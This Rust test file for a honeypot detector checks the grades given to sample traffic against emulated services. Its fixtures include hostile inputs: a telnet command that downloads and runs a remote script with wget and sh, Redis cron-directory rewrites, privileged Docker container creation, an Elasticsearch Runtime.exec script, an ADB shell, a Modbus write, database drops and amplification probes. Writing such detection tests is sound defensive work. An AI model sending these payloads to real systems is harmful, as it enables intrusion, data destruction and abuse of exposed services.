//! What was said to each service, judged as the node judges it: a session's findings must earn the grade they deserve.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use honeymesh_detect::Detector;
use honeymesh_trap_proto::{Datagram, Definition, Findings, Flow, Persona, RuleDefinition, ScriptDefinition, Service};
use honeymesh_types::{Grade, Now, SessionId, Signs, Transport, Visit, WallTime};
use std::collections::{BTreeMap, BTreeSet};

const NOW: WallTime = WallTime(1_795_341_600_000_000);
/// What a client's hello of TLS begins with; what is said behind it is said inside.
const TLS: u8 = 0x16;

fn define(service: &str, transport: Option<&str>) -> Service {
    let mut definition = Definition { service: service.into(), transport: transport.map(Into::into), ..Definition::default() };
    if service == "script" {
        let rule = RuleDefinition { expect: Some("VRFY".into()), hostile: true, ..RuleDefinition::default() };
        definition.script = ScriptDefinition { rules: vec![rule], ..ScriptDefinition::default() };
    }
    Service::define(&definition, &Persona::of([7; 32])).unwrap()
}

/// Everything one stranger said to a service in its usual way, as one report.
fn visit(service: &str, said: &[u8]) -> Visit {
    let mut session = define(service, None).session(7);
    let mut all = Findings::default();
    let mut take = |findings: Findings| {
        all.signs |= findings.signs;
        all.fields.extend(findings.fields);
    };
    let mut answer = Vec::new();
    let mut flow = session.open(&mut answer);
    let mut rest = said;
    while !rest.is_empty() && flow != Flow::Close {
        let step = session.receive(rest, NOW, &mut answer);
        rest = &rest[step.taken..];
        flow = step.flow;
        take(session.findings());
        while let Some(next) = session.resume(NOW, &mut answer) {
            flow = next;
        }
        // What follows is what was inside: nobody encrypts here.
        if flow == Flow::StartTls {
            flow = session.open(&mut answer);
        }
    }
    session.end();
    take(session.findings());
    told(service, Transport::Tcp, said, all)
}

/// The same of one datagram, by somebody who may have forged its source, or who brings back what was sent to it.
fn datagram(service: &str, said: &[u8], is_returned: bool) -> Visit {
    let mut all = define(service, Some("udp")).datagram(&Datagram { bytes: said, now: NOW, ..Datagram::default() }).findings;
    all.signs.set(Signs::RETURNED, is_returned);
    told(service, Transport::Udp, said, all)
}

fn told(service: &str, transport: Transport, said: &[u8], all: Findings) -> Visit {
    Visit {
        at: Now::default(),
        session: SessionId(1),
        trap: service.into(),
        service: service.into(),
        source: "203.0.113.7:4711".parse().unwrap(),
        local: "192.0.2.1:99".parse().unwrap(),
        transport,
        payload: said.to_vec(),
        bytes: said.len() as u64,
        signs: all.signs,
        fields: all.fields,
        marks: None,
    }
}

/// Whoever connects to a script says what its rules want; to services over UDP nobody can connect.
fn is_spoken_over_tcp(service: &str) -> bool {
    service != "script" && define(service, None).transports().contains(&Transport::Tcp)
}

fn judged(service: &str, said: &[u8]) -> (Grade, u8) {
    let verdict = Detector::new().judge_visit(&visit(service, said));
    (verdict.grade, verdict.score)
}

/// The login packet of a MySQL client, with a scramble of twenty bytes.
const MYSQL_LOGIN: &[u8] = b"\x3b\0\0\x01\0\x82\0\0\0\0\0\0\x21\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0root\0\
    \x14abcdefghijklmnopqrst\0";
const POSTGRESQL_LOGIN: &[u8] = b"\0\0\0\x13\0\x03\0\0user\0root\0\0p\0\0\0\x09toor\0";

#[test]
fn what_was_said_to_a_service_gets_the_grade_it_deserves() {
    let credentials: [(&str, &[u8]); 9] = [
        ("ftp", b"USER root\r\nPASS toor\r\n"),
        ("telnet", b"root\r\nxc3511\r\n"),
        ("smtp", b"EHLO a\r\nAUTH PLAIN AHJvb3QAdG9vcg==\r\n"),
        ("pop3", b"USER root\r\nPASS toor\r\n"),
        ("imap", b"a LOGIN root toor\r\n"),
        ("redis", b"AUTH hunter2\r\n"),
        ("mysql", MYSQL_LOGIN),
        ("postgresql", POSTGRESQL_LOGIN),
        ("vnc", b"RFB 003.008\n\x02abcdefghijklmnop"),
    ];
    for (service, said) in credentials {
        assert_eq!(judged(service, said), (Grade::Hostile, 40), "{service}: credentials");
    }
    let abuse: [(&str, &[u8], u8); 5] = [
        ("smtp", b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nbuy\r\n.\r\n", 50),
        ("memcached", b"flush_all\r\n", 50),
        ("redis", b"EVAL 'return 1' 0\r\n", 50),
        ("redis", b"CONFIG SET dir /var/spool/cron\r\n", 90),
        ("telnet", b"a\r\nb\r\na\r\nb\r\ncd /tmp; wget http://198.51.100.9/i; sh i\r\n", 100),
    ];
    for (service, said, least) in abuse {
        let (grade, score) = judged(service, said);
        assert!(grade == Grade::Hostile && score >= least, "{service}: {grade:?} {score}");
    }
}

#[test]
fn a_look_around_is_a_payload_and_a_connection_a_handshake() {
    let looks: [(&str, &[u8]); 7] = [
        ("ftp", b"USER anonymous\r\nPASS a@b\r\nPWD\r\nQUIT\r\n"),
        ("smtp", b"EHLO a\r\nQUIT\r\n"),
        ("pop3", b"CAPA\r\nQUIT\r\n"),
        ("imap", b"a CAPABILITY\r\n"),
        ("redis", b"PING\r\nINFO\r\n"),
        ("memcached", b"version\r\nstats\r\n"),
        ("vnc", b"RFB 003.008\n"),
    ];
    for (service, said) in looks {
        assert_eq!(judged(service, said), (Grade::Payload, 10), "{service}");
    }
    let silent: BTreeMap<_, _> =
        Service::NAMES.iter().copied().filter(|name| is_spoken_over_tcp(name)).map(|name| (name, judged(name, b""))).collect();
    assert!(silent.values().all(|judged| *judged == (Grade::Handshake, 5)), "{silent:?}");
}

/// `OP_MSG` with a command of one element, `name: 1`.
fn mongodb(name: &str) -> Vec<u8> {
    let document = [&[0x10][..], name.as_bytes(), &[0, 1, 0, 0, 0]].concat();
    let document = [&u32::try_from(document.len() + 5).unwrap().to_le_bytes()[..], &document, &[0]].concat();
    let length = u32::try_from(16 + 5 + document.len()).unwrap();
    [&length.to_le_bytes()[..], &[1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 7, 0, 0, 0, 0, 0, 0, 0], &document].concat()
}

#[test]
fn packets_of_windows_services_get_the_grade_they_deserve() {
    let name = |text: &[u8]| [text, &vec![0; 30 - text.len()], &[u8::try_from(text.len()).unwrap()]].concat();
    let old_login = [&b"\x02\x01\0\x65\0\0\0\0"[..], &name(b"pc"), &name(b"sa"), &name(b"letmein")].concat();
    let said: [(&str, &[u8], Grade); 10] = [
        ("mssql", b"\x12\x01\0\x0f\0\0\0\0\x01\0\x06\0\x01\xff\x02", Grade::Payload),
        ("mssql", &old_login, Grade::Hostile),
        (
            "smb",
            b"\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x0c\0\x02NT LM 0.12\0",
            Grade::Payload,
        ),
        ("rdp", b"\x03\0\0\x0b\x06\xe0\0\0\0\0\0", Grade::Payload),
        ("ldap", b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\0\x80\0", Grade::Payload),
        ("ldap", b"\x30\x11\x02\x01\x01\x60\x0c\x02\x01\x03\x04\x04cn=a\x80\x01x", Grade::Hostile),
        ("ldap", b"\x30\x09\x02\x01\x01\x4a\x04dc=a", Grade::Hostile),
        ("mongodb", &mongodb("ping"), Grade::Payload),
        ("mongodb", &mongodb("listDatabases"), Grade::Payload),
        ("mongodb", &mongodb("dropDatabase"), Grade::Hostile),
    ];
    for (service, said, grade) in said {
        assert_eq!(judged(service, said).0, grade, "{service}: {said:?}");
    }
}

#[test]
fn what_was_said_to_the_things_of_a_house_and_a_factory_gets_the_grade_it_deserves() {
    const MQTT: &[u8] = b"\x10\x1b\0\x04MQTT\x04\xc2\0\x3c\0\x03bot\0\x04root\0\x04toor";
    const MQTT_ANYBODY: &[u8] = b"\x10\x0f\0\x04MQTT\x04\x02\0\x3c\0\x03bot";
    const ADB: &[u8] = b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0";
    const SHELL: &[u8] = b"OPEN\x01\0\0\0\0\0\0\0\x09\0\0\0\x2d\x03\0\0\xb0\xaf\xba\xb1shell:id\0";
    let table: [(&str, Vec<u8>, Grade); 8] = [
        ("mqtt", MQTT.to_vec(), Grade::Hostile),
        ("mqtt", MQTT_ANYBODY.to_vec(), Grade::Payload),
        ("mqtt", [MQTT_ANYBODY, b"\x82\x06\0\x02\0\x01#\0"].concat(), Grade::Payload),
        ("mqtt", [MQTT_ANYBODY, b"\x30\x05\0\x01aon"].concat(), Grade::Hostile),
        ("modbus", b"\0\x01\0\0\0\x06\x01\x03\0\0\0\x01".to_vec(), Grade::Payload),
        ("modbus", b"\0\x01\0\0\0\x06\x01\x06\0\0\0\x01".to_vec(), Grade::Hostile),
        ("adb", ADB.to_vec(), Grade::Payload),
        ("adb", [ADB, SHELL].concat(), Grade::Hostile),
    ];
    for (service, said, grade) in table {
        assert_eq!(judged(service, &said).0, grade, "{service}: {said:?}");
        assert_eq!(judged("any", &said).0, grade, "the same where nobody expects it: {service}");
    }
}

/// UTF-16, as Windows writes.
fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn two_bytes(length: usize) -> [u8; 2] {
    u16::try_from(length).unwrap().to_le_bytes()
}

/// NTLM's first and its third message, of one user.
fn ntlm() -> [Vec<u8>; 2] {
    let hello = [&b"NTLMSSP\0\x01\0\0\0\x97\x82\x08\xe0"[..], &[0; 16]].concat();
    let parts = [vec![0; 24], vec![9; 48], wide("CORP"), wide("admin"), wide("WS"), Vec::new()];
    let mut answer = b"NTLMSSP\0\x03\0\0\0".to_vec();
    let mut at = 72;
    for part in &parts {
        let length = two_bytes(part.len());
        answer.extend([&length[..], &length, &two_bytes(at), &[0, 0]].concat());
        at += part.len();
    }
    answer.extend(b"\x15\x82\x88\xe2\x0a\0\x7c\x4f\0\0\0\x0f");
    answer.extend(parts.concat());
    [hello, answer]
}

/// SMB 2: both of them, each in a session's set-up.
fn smb() -> Vec<u8> {
    let setup = |token: &Vec<u8>| {
        let head = [&b"\xfeSMB\x40"[..], &[0; 7], &[1, 0, 31], &[0; 49]].concat();
        let body = [&[25, 0, 0, 1][..], &[0; 8], &[88, 0], &two_bytes(token.len()), &[0; 8], token].concat();
        let message = [head, body].concat();
        [&u32::try_from(message.len()).unwrap().to_be_bytes()[..], &message].concat()
    };
    ntlm().iter().flat_map(setup).collect()
}

/// ASN.1, short and long.
fn ber(tag: u8, content: &[u8]) -> Vec<u8> {
    match u8::try_from(content.len()) {
        Ok(length @ ..0x80) => [&[tag, length][..], content].concat(),
        _ => [&[tag, 0x82][..], &u16::try_from(content.len()).unwrap().to_be_bytes(), content].concat(),
    }
}

/// CredSSP: both of them, inside TLS, to a desktop that is asked for nothing else.
fn rdp() -> Vec<u8> {
    let request = |token: &Vec<u8>| {
        let tokens = ber(0xa1, &ber(0x30, &ber(0x30, &ber(0xa0, &ber(4, token)))));
        ber(0x30, &[ber(0xa0, &ber(2, &[6])), tokens].concat())
    };
    let hybrid = b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x02\0\0\0".to_vec();
    [hybrid].into_iter().chain(ntlm().iter().map(request)).flatten().collect()
}

/// `saslStart` with a password in the clear.
fn mongodb_login() -> Vec<u8> {
    let text = |name: &str, value: &str| {
        let length = u32::try_from(value.len() + 1).unwrap().to_le_bytes();
        [&[2][..], name.as_bytes(), &[0], &length, value.as_bytes(), &[0]].concat()
    };
    let document = [
        b"\x10saslStart\0\x01\0\0\0".to_vec(),
        text("mechanism", "PLAIN"),
        b"\x05payload\0\x0d\0\0\0\0\0root\0hunter2".to_vec(),
        text("$db", "admin"),
        vec![0],
    ]
    .concat();
    let document = [&u32::try_from(document.len() + 4).unwrap().to_le_bytes()[..], &document].concat();
    let length = u32::try_from(16 + 5 + document.len()).unwrap();
    [&length.to_le_bytes()[..], &[1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 7, 0, 0, 0, 0, 0, 0, 0], &document].concat()
}

fn web(request: &str, more: &str, body: &str) -> Vec<u8> {
    format!("{request} HTTP/1.1\r\nHost: a\r\n{more}Content-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

fn inside(said: impl AsRef<[u8]>) -> Vec<u8> {
    [&[TLS][..], said.as_ref()].concat()
}

const BASIC: &str = "Authorization: Basic cm9vdDp0b29y\r\n";
const JSON: &str = "Content-Type: application/json\r\n";
const PRIVILEGED: &str = "{\"Image\":\"alpine\",\"Cmd\":[\"sh\"],\"HostConfig\":{\"Privileged\":true}}";
const SCRIPT: &str = "{\"script_fields\":{\"x\":{\"script\":{\"source\":\"Runtime.getRuntime().exec('id')\"}}}}";

/// A service, a look around there, and what is hostile.
type Row = (&'static str, Vec<u8>, Option<Vec<u8>>);

/// One look around at each service over TCP, and what is hostile there. SSH's passwords are encrypted: `honeytokens.rs` says one.
fn over_tcp() -> Vec<Row> {
    let row = |service, look: &[u8], attack: &[u8]| (service, look.to_vec(), Some(attack.to_vec()));
    let page = web("GET /", "", "");
    let ldap = b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\0\x80\0";
    vec![
        ("ssh", b"SSH-2.0-Go\r\n".to_vec(), None),
        row("http", &page, &web("GET /", BASIC, "")),
        row("https", &inside(&page), &inside(web("GET /", BASIC, ""))),
        row("ftp", b"SYST\r\n", b"USER root\r\nPASS toor\r\n"),
        row("telnet", b"root\r\n", b"root\r\nxc3511\r\n"),
        row("smtp", b"EHLO a\r\n", b"EHLO a\r\nAUTH PLAIN AHJvb3QAdG9vcg==\r\n"),
        row("smtps", &inside(b"EHLO a\r\n"), &inside(b"EHLO a\r\nAUTH PLAIN AHJvb3QAdG9vcg==\r\n")),
        row("pop3", b"CAPA\r\n", b"USER root\r\nPASS toor\r\n"),
        row("pop3s", &inside(b"CAPA\r\n"), &inside(b"USER root\r\nPASS toor\r\n")),
        row("imap", b"a CAPABILITY\r\n", b"a LOGIN root toor\r\n"),
        row("imaps", &inside(b"a CAPABILITY\r\n"), &inside(b"a LOGIN root toor\r\n")),
        row("redis", b"PING\r\n", b"AUTH hunter2\r\n"),
        row("memcached", b"version\r\n", b"flush_all\r\n"),
        row("mysql", b"\x01\0\0\x01\x01", MYSQL_LOGIN),
        row("postgresql", b"\0\0\0\x13\0\x03\0\0user\0root\0\0", POSTGRESQL_LOGIN),
        row("vnc", b"RFB 003.008\n", b"RFB 003.008\n\x02abcdefghijklmnop"),
        row("elasticsearch", &page, &web("POST /_search", JSON, SCRIPT)),
        row("docker", &web("GET /version", "", ""), &web("POST /containers/create", JSON, PRIVILEGED)),
        row("kubernetes", &inside(web("GET /version", "", "")), &inside(web("GET /api", "Authorization: Bearer abc\r\n", ""))),
        row("mssql", b"\x12\x01\0\x0f\0\0\0\0\x01\0\x06\0\x01\xff\x02", &mssql()),
        row("smb", &smb()[..128], &smb()),
        row("rdp", b"\x03\0\0*%\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0", &rdp()),
        row("ldap", ldap, b"\x30\x11\x02\x01\x01\x60\x0c\x02\x01\x03\x04\x04cn=a\x80\x01x"),
        row("mongodb", &mongodb("ping"), &mongodb_login()),
        row(
            "mqtt",
            b"\x10\x0f\0\x04MQTT\x04\x02\0\x3c\0\x03bot",
            b"\x10\x1b\0\x04MQTT\x04\xc2\0\x3c\0\x03bot\0\x04root\0\x04toor",
        ),
        row("modbus", b"\0\x01\0\0\0\x06\x01\x03\0\0\0\x01", b"\0\x01\0\0\0\x06\x01\x06\0\0\0\x01"),
        row("adb", b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0", &adb()),
        row("script", b"EHLO a\r\n", b"VRFY root\r\n"),
        row("any", &page, b"USER root\r\nPASS toor\r\n"),
    ]
}

fn mssql() -> Vec<u8> {
    let name = |text: &[u8]| [text, &vec![0; 30 - text.len()], &[u8::try_from(text.len()).unwrap()]].concat();
    [&b"\x02\x01\0\x65\0\0\0\0"[..], &name(b"pc"), &name(b"sa"), &name(b"letmein")].concat()
}

fn adb() -> Vec<u8> {
    let hello = b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0";
    [&hello[..], b"OPEN\x01\0\0\0\0\0\0\0\x09\0\0\0\x2d\x03\0\0\xb0\xaf\xba\xb1shell:id\0"].concat()
}

/// What is hostile in a datagram; whoever sends it may not be who it says.
const OVER_UDP: [(&str, &[u8]); 7] = [
    ("dns", b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03isc\x03org\0\0\xff\0\x01"),
    ("ntp", b"\x17\0\x03\x2a\0\0\0\0"),
    ("snmp", b"\x30\x27\x02\x01\x01\x04\x06s3cret\xa0\x1a\x02\x02\x12\x34\x02\x01\0\x02\x01\0\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x05\0\x05\0"),
    ("tftp", b"\0\x02bot.elf\0octet\0"),
    (
        "sip",
        b"REGISTER sip:a SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9;branch=z9hG4bK1\r\nFrom: <sip:1@a>;tag=1\r\nTo: <sip:1@a>\r\nCall-ID: 9\r\n\
        CSeq: 2 REGISTER\r\nAuthorization: Digest username=\"1\", realm=\"asterisk\", nonce=\"x\", uri=\"sip:a\", \
        response=\"00112233445566778899aabbccddeeff\"\r\nContent-Length: 0\r\n\r\n",
    ),
    ("ssdp", b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"),
    ("memcached", b"\0\x01\0\0\0\x01\0\0flush_all\r\n"),
];

/// A service that is new fails here until it has its rows.
#[test]
fn every_service_has_its_grades() {
    let over_tcp = over_tcp();
    let rows: BTreeSet<&str> = over_tcp.iter().map(|(name, ..)| *name).chain(OVER_UDP.map(|(name, _)| name)).collect();
    assert_eq!(rows, Service::NAMES.iter().copied().collect());
    for name in Service::NAMES.iter().filter(|name| is_spoken_over_tcp(name)) {
        // Two are spoken over both, and over TCP as over UDP.
        assert!(over_tcp.iter().any(|(row, ..)| row == name) || ["dns", "sip"].contains(name), "{name} over TCP");
    }
    for (service, look, attack) in over_tcp {
        assert_eq!(judged(service, &look).0, Grade::Payload, "{service}: a look");
        if let Some(attack) = attack {
            let (grade, score) = judged(service, &attack);
            assert!(grade == Grade::Hostile && score >= 40, "{service}: {grade:?} {score}");
        }
    }
    for (service, said) in OVER_UDP {
        let grade = |is_returned| Detector::new().judge_visit(&datagram(service, said, is_returned)).grade;
        assert_eq!(grade(false), Grade::Spoofable, "{service}: anybody may have sent it");
        let proved = if service == "ssdp" { Grade::Payload } else { Grade::Hostile };
        assert_eq!(grade(true), proved, "{service}: who proves where he is");
    }
    // DNS and SIP over TCP are proved as whatever is said there.
    let [dns, .., sip, _, _] = OVER_UDP.map(|(_, said)| said);
    let counted = [&u16::try_from(dns.len()).unwrap().to_be_bytes()[..], dns].concat();
    assert_eq!([judged("dns", &counted).0, judged("sip", sip).0], [Grade::Hostile; 2]);
}
